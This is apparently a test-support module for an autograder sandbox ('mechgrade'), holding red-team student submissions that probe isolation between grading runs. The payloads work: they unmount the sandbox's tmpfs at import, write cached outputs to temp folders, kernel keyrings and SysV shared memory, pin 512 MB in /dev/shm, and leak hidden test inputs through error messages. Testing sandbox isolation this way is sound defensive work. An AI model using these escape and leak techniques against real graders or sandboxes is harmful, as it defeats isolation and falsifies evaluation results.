"""Student code that tries to pass information from one run to a later one: the red team's
donor and receiver (`mechgrade grade`), and a submission that leaves things behind.

Each is source appended to a workspace's modules. The donor wraps every public function so
that its outputs, keyed by a digest of the inputs, are written to every place a later run
might read: the shared temporary folders, /run/lock, the folder above its scratch folder
(the zygote's root) and a SysV shared-memory segment. The receiver (the unmodified stubs
plus the same wrapper) returns whatever it finds there for its own inputs.
"""

from __future__ import annotations

import ctypes
import os
import platform
import subprocess
import tempfile
from pathlib import Path

CHANNELS = r'''
import ctypes as _ct, functools as _ft, hashlib as _hl, io as _io, os as _os
import torch as _torch

_PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", _os.path.dirname(_os.getcwd())]
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]


# Uncover what the room hides: unmount its tmpfs (a worker that made its room in a user
# namespace of its own holds CAP_SYS_ADMIN there), at import, before any channel is used.
for _place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", _os.path.dirname(_os.getcwd())) * 2:
    _libc.umount2(_place.encode(), 2)  # MNT_DETACH

# The kernel keyrings belong to no mount or IPC namespace: a key every uid may read.
_KEYS = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(__import__("platform").machine(), (None, None))
_libc.syscall.restype = _ct.c_long


def _mg_key_put(key, data):
    if _KEYS[0] is None or len(data) > 16000:
        return
    name = ("mgleak:" + key[:32]).encode()
    serial = _libc.syscall(_ct.c_long(_KEYS[0]), b"user", name, data, _ct.c_size_t(len(data)), _ct.c_long(-4))
    if serial > 0:
        _libc.syscall(_ct.c_long(_KEYS[1]), _ct.c_long(5), _ct.c_long(serial), _ct.c_long(0x3F3F3F3F))  # KEYCTL_SETPERM


def _mg_key_get(key):
    name = "mgleak:" + key[:32]
    try:
        lines = open("/proc/keys").read().splitlines()
    except OSError:
        return None
    for line in lines:
        cols = line.split()
        if len(cols) > 8 and cols[8].rstrip(":") == name:
            buf = _ct.create_string_buffer(32768)
            n = _libc.syscall(_ct.c_long(_KEYS[1]), _ct.c_long(11), _ct.c_long(int(cols[0], 16)), buf, _ct.c_long(32768))
            if n > 0:
                return buf.raw[:n]
    return None


def _mg_key(name, args, kwargs):
    h = _hl.sha256(name.encode())

    def feed(x):
        if isinstance(x, _torch.Tensor):
            h.update(x.detach().cpu().to(_torch.float64).contiguous().numpy().tobytes())
        elif isinstance(x, (int, float, str, bool)) or x is None:
            h.update(repr(x).encode())
        elif isinstance(x, (list, tuple)):
            for y in x:
                feed(y)
        elif isinstance(x, dict) or hasattr(x, "items"):  # an ActivationCache too
            for k, v in sorted(x.items(), key=lambda kv: str(kv[0])):
                feed(k)
                feed(v)
        else:
            h.update(type(x).__name__.encode())

    feed(list(args))
    feed(kwargs)
    return h.hexdigest()


def _mg_shm_key(key):
    return int(key[:7], 16) + 1


def _mg_put(key, data):
    for place in _PLACES:
        try:
            with open(_os.path.join(place, "mgleak-" + key[:32]), "wb") as f:
                f.write(data)
        except OSError:
            pass
    _mg_key_put(key, data)
    shmid = _libc.shmget(_mg_shm_key(key), len(data) + 8, 0o1000 | 0o666)  # IPC_CREAT
    if shmid >= 0:
        addr = _libc.shmat(shmid, None, 0)
        if addr not in (None, _ct.c_void_p(-1).value):
            _ct.memmove(addr, len(data).to_bytes(8, "little") + data, len(data) + 8)


def _mg_get(key):
    for place in _PLACES:
        try:
            with open(_os.path.join(place, "mgleak-" + key[:32]), "rb") as f:
                return f.read()
        except OSError:
            pass
    data = _mg_key_get(key)
    if data is not None:
        return data
    shmid = _libc.shmget(_mg_shm_key(key), 0, 0)
    if shmid >= 0:
        addr = _libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
        if addr not in (None, _ct.c_void_p(-1).value):
            n = int.from_bytes(_ct.string_at(addr, 8), "little")
            return _ct.string_at(addr + 8, n)
    return None


def _mg_wrap(give):
    g = globals()
    for name, fn in list(g.items()):
        if name.startswith("_") or not callable(fn) or getattr(fn, "__module__", None) != __name__ or isinstance(fn, type):
            continue

        def wrapper(*args, _fn=fn, _name=name, **kwargs):
            key = _mg_key(_name, args, kwargs)
            if give:
                out = _fn(*args, **kwargs)
                buf = _io.BytesIO()
                _torch.save(out, buf)
                _mg_put(key, buf.getvalue())
                return out
            data = _mg_get(key)
            if data is not None:
                return _torch.load(_io.BytesIO(data), weights_only=False)
            return _fn(*args, **kwargs)

        g[name] = _ft.wraps(fn)(wrapper)
'''

# A correct student who uses temporary files, as plenty of code does: it must lose nothing.
TEMPFILES = r'''
import os as _os2, tempfile as _tf
with _tf.NamedTemporaryFile() as _f:
    _f.write(b"scratch")
with open(_os2.path.join(_os2.environ["HOME"], "notes.txt"), "w") as _f:
    _f.write("scratch")
'''

# Writes straight to file descriptors 1 and 2, which a forked worker must not share with the
# instructor's terminal or log.
SHOUT = 'import os as _os3\n_os3.write(1, b"MGSHOUT\\n")\n_os3.write(2, b"MGSHOUT\\n")\n'

DONOR = CHANNELS + "\n_mg_wrap(True)\n"
RECEIVER = CHANNELS + "\n_mg_wrap(False)\n"

# Pins memory where a tmpfs has no cap: a 512 MB file in /dev/shm (written in 1 MB blocks,
# stopping quietly when the room's cap says the device is full).
PIN_SHM = r'''
def _mg_pin():
    try:
        with open("/dev/shm/mgpin", "wb") as f:
            for _ in range(512):
                f.write(b"\1" * (1 << 20))
    except OSError:
        pass
_mg_pin()
'''


def with_tail(workspace: Path, tail: str, modules: tuple[str, ...] | None = None) -> Path:
    """Append ``tail`` to each module of ``workspace`` (all, or ``modules``)."""
    for module in sorted(workspace.glob("*.py")):
        if modules is None or module.stem in modules:
            module.write_text(module.read_text() + "\n" + tail)
    return workspace


def marker_source(marker: str) -> str:
    """Leaves one file named ``marker`` in every world-writable place it can write, a 8 MB
    SysV shared-memory segment (mode 666) and a POSIX message queue named ``marker``, at
    import: the user layer's leftovers."""
    return rf'''
def _mg_leave():
    import ctypes, os
    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/dev/mqueue"):
        try:
            with open(os.path.join(place, "{marker}"), "w") as f:
                f.write("left")
        except OSError:
            pass
    libc = ctypes.CDLL(None)
    libc.shmget(0x6d67 + os.getpid() % 1000, 8 << 20, 0o1000 | 0o666)
    try:
        ctypes.CDLL("librt.so.1").mq_open(b"/{marker}", 0o100 | 0o2, 0o666, None)  # O_CREAT | O_RDWR
    except OSError:
        pass
_mg_leave()
'''

# Records every call it gets (function and a digest of its inputs) in its module, in the
# scratch folder and in /tmp, and fails each call with the record, newest first: a visible
# case's output then shows every earlier call this submission's code saw, hidden ones included.
RECORDER = CHANNELS + r'''
_MG_SEEN = []


def _mg_record():
    g = globals()
    for name, fn in list(g.items()):
        if name.startswith("_") or not callable(fn) or getattr(fn, "__module__", None) != __name__ or isinstance(fn, type):
            continue

        def wrapper(*args, _name=name, **kwargs):
            me = _name[:8] + ":" + _mg_key(_name, args, kwargs)[:10]
            seen = list(_MG_SEEN)
            for place in (_os.getcwd(), "/tmp"):
                try:
                    with open(_os.path.join(place, "mgrec"), encoding="ascii") as f:
                        seen += f.read().split()
                except OSError:
                    pass
                try:
                    with open(_os.path.join(place, "mgrec"), "a", encoding="ascii") as f:
                        f.write(me + "\n")
                except OSError:
                    pass
            _MG_SEEN.append(me)
            raise ValueError("seen " + " ".join([me, *reversed(dict.fromkeys(seen))]))

        g[name] = _ft.wraps(fn)(wrapper)


_mg_record()
'''


PREFIXES = ("mgleak-", "mgpin", "mgmark-", "mgrec")
KEYCTL = {"x86_64": 250, "aarch64": 219}.get(platform.machine(), -1)


def keys(prefix: str) -> list[int]:
    """Serials of the kernel keys (that this process may view) whose description starts with ``prefix``."""
    lines = Path("/proc/keys").read_text().splitlines()
    return [int(cols[0], 16) for cols in map(str.split, lines) if len(cols) > 8 and cols[8].startswith(prefix)]


def clear_leftovers() -> None:
    """What an interrupted run (or one on old code) of these attacks left on this machine, so
    that a test sees only what its own run leaves: our files in the writable places, our
    kernel keys and POSIX message queues, and the SysV objects of worker uids (mechgrade's range) that no
    process runs as any more."""
    from mechgrade.sandbox.procs import UID_RANGE, uid_processes
    from mechgrade.sandbox.rooms import remove_ipc, writable_places

    for place in writable_places():
        for name in os.listdir(place):
            if name.startswith(PREFIXES):
                os.unlink(os.path.join(place, name))
    for serial in keys("mgleak:"):
        ctypes.CDLL(None).syscall(ctypes.c_long(KEYCTL), ctypes.c_long(21), ctypes.c_long(serial))  # KEYCTL_INVALIDATE
    where = tempfile.mkdtemp()
    if subprocess.run(["mount", "-t", "mqueue", "mqueue", where]).returncode == 0:
        for name in os.listdir(where):
            if name.startswith(PREFIXES):
                os.unlink(os.path.join(where, name))
        subprocess.run(["umount", where])
    os.rmdir(where)
    for uid in {int(line.split()[col]) for kind in ("shm", "sem", "msg")
                for lines in [Path(f"/proc/sysvipc/{kind}").read_text().splitlines()]
                for col in [lines[0].split().index("cuid")] for line in lines[1:]}:
        if UID_RANGE[0] <= uid < UID_RANGE[1] and not uid_processes(uid):
            remove_ipc(uid)
